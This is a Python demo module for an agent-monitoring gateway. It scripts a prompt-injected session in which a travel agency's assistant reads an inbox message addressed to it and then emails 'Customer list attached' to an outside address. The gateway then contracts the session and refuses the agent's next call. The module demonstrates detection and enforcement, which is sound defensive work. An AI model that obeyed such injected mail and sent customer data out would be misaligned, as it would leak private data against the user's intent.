"""The demo's control loop: one prompt-injected session, contracted and then refused.

A travel agency's assistant is asked to answer the customer who wrote about a booking. Its
client declares the session, then talks to the agency's mailbox (``agentledger.demo_mcp``)
through the MCP gateway (``enforce.gateway``), which records every message into the ledger.
One message in the inbox carries text addressed to the agent, naming an outside address;
the agent sends mail there. The worker scores that call, the policy contracts the session,
the gateway hears of it on the contractions topic, and refuses the agent's next call.
"""

from __future__ import annotations

import asyncio
import base64
import contextlib
import secrets
import sys
import time
from typing import Any

import httpx2
import mcp_types as types
import orjson
from mcp.client.session import ClientSession, IncomingMessage
from mcp.client.streamable_http import streamable_http_client
from mcp.shared.exceptions import MCPError

from agentledger.client import post_declaration
from agentledger.stack_state import StackInfo
from enforce.gateway import Gateway
from enforce.gateway_upstream import UpstreamSpec
from kernel.config import Settings
from kernel.declaration import parse_declaration
from kernel.procs import free_port
from kernel.topics import Topics
from ledger.contractions import list_contractions
from ledger.queries import SessionNotFound, list_actions
from ledger.store import LedgerStore

AGENT = "travel-desk-agent"
LIST_CHANGED = "notifications/tools/list_changed"


def _demo_token(jti: str) -> str:
    """A token shaped like the agency's identity provider's (unsigned: the ledger reads
    claims, the gateway replaces the token by its fingerprint before anything is kept)."""

    def part(value: dict[str, Any]) -> str:
        return base64.urlsafe_b64encode(orjson.dumps(value)).rstrip(b"=").decode()

    now = int(time.time())
    claims = {
        "iss": "https://id.harbourline-travel.example",
        "sub": "ines.okafor",
        "aud": "harbourline-mail",
        "client_id": "travel-desk",
        "scope": "mail.read mail.send bookings.read",
        "jti": jti,
        "iat": now,
        "exp": now + 3600,
    }
    return f"{part({'alg': 'RS256', 'typ': 'JWT'})}.{part(claims)}.{secrets.token_urlsafe(16)}"


class _Notifications:
    def __init__(self) -> None:
        self.methods: list[str] = []

    async def __call__(self, message: IncomingMessage) -> None:
        if not isinstance(message, Exception):
            self.methods.append(message.method)


def _text(result: types.CallToolResult) -> str:
    return "\n".join(c.text for c in result.content if isinstance(c, types.TextContent))


async def run_control_loop(
    settings: Settings, info: StackInfo, key: str, store: LedgerStore, run_id: str
) -> dict[str, Any]:
    """Play the injected session through the gateway; what happened, for the demo to show."""
    jti = f"demo-{run_id}"
    session_id = f"s-travel-{run_id}"
    declaration = parse_declaration(
        {
            "session_id": session_id,
            "agent": {"id": AGENT, "version": "2.4.1"},
            "origin": {"type": "human", "principal": "ines.okafor@harbourline-travel.example"},
            "intent": {
                "text": "Read the inbox and answer Ines Okafor about the ferry for booking "
                "HL-2207: confirm it to her by email."
            },
            "scopes": ["mail.read", "mail.send", "bookings.read"],
            "bindings": {"token_jti": jti},
        }
    )
    await asyncio.to_thread(post_declaration, info.http_url, declaration, key)
    log = settings.data_dir / "samples" / run_id / "mailbox-requests.jsonl"
    log.parent.mkdir(parents=True, exist_ok=True)
    command = f"{sys.executable} -m agentledger.demo_mcp --log {log}"
    gateway = Gateway(
        UpstreamSpec.parse(None, command),
        bootstrap=info.bootstrap,
        topics=Topics(info.topic_prefix),
        server_name="harbourline-mail",
        settings=settings,
        partitions=settings.partitions,
    )
    port = free_port()
    stop = asyncio.Event()
    ready = asyncio.Event()
    serving = asyncio.create_task(gateway.run("127.0.0.1", port, stop, ready.set))
    try:
        await asyncio.wait_for(ready.wait(), 60)
        story = await _agent(f"http://127.0.0.1:{port}/mcp", _demo_token(jti))
    finally:
        stop.set()
        await serving
    story["session_id"] = session_id
    story["intent"] = declaration.intent.text
    story["drift"] = await asyncio.to_thread(_drift_of, store, session_id)
    story["contractions"] = list_contractions(store, session_id=session_id)
    story["upstream_saw_refused_call"] = "one more time" in log.read_text()
    return story


async def _agent(url: str, token: str) -> dict[str, Any]:
    """The agent's side: list, read the inbox, send where the inbox said, and try again
    once the gateway says the session's tools changed."""
    story: dict[str, Any] = {}
    notified = _Notifications()
    headers = {"Authorization": f"Bearer {token}"}
    async with (
        httpx2.AsyncClient(headers=headers, timeout=httpx2.Timeout(30, read=300)) as http,
        streamable_http_client(url, http_client=http) as (read_stream, write_stream),
        ClientSession(
            read_stream,
            write_stream,
            message_handler=notified,
            client_info=types.Implementation(name=AGENT, version="2.4.1"),
        ) as client,
    ):
        await client.initialize()
        story["tools"] = [t.name for t in (await client.list_tools()).tools]
        inbox = _text(await client.call_tool("read_inbox", {}))
        story["injected_result"] = next(
            (part for part in inbox.split("\n\n") if "ASSISTANT" in part), inbox
        )
        target = "archive-desk@quietmirror.example"
        sent = {"to": target, "body": "Customer list attached, as requested."}
        story["drifting_call"] = {"tool": "send_email", "arguments": sent}
        try:
            story["drifting_call"]["result"] = _text(await client.call_tool("send_email", sent))
        except MCPError as exc:  # contracted already (the stream was quicker than the agent)
            story["drifting_call"]["result"] = f"refused: {exc.error.message}"
        deadline = time.monotonic() + 60
        while LIST_CHANGED not in notified.methods and time.monotonic() < deadline:
            await asyncio.sleep(0.05)
        story["gateway_notified"] = LIST_CHANGED in notified.methods
        again = {"to": target, "body": "Sending it one more time."}
        try:
            await client.call_tool("send_email", again)
            story["next_call"] = {"refused": False}
        except MCPError as exc:
            story["next_call"] = {
                "refused": True,
                "code": exc.error.code,
                "message": exc.error.message,
            }
    return story


def _drift_of(store: LedgerStore, session_id: str) -> list[dict[str, Any]]:
    """The session's scored calls as the ledger keeps them, oldest first."""
    found: list[dict[str, Any]] = []
    deadline = time.monotonic() + 30
    while time.monotonic() < deadline:
        with contextlib.suppress(SessionNotFound):
            actions = list_actions(store, session_id=session_id)
            found = [
                {
                    "action_id": a["action_id"],
                    "tool": a["resource"],
                    "arguments": a["arguments"],
                    **a["drift"],
                    "decision": a["decision"],
                }
                for a in reversed(actions)
                if a["drift"] is not None
            ]
            if any(item["tool"] == "send_email" for item in found):
                break
        time.sleep(0.2)
    return found
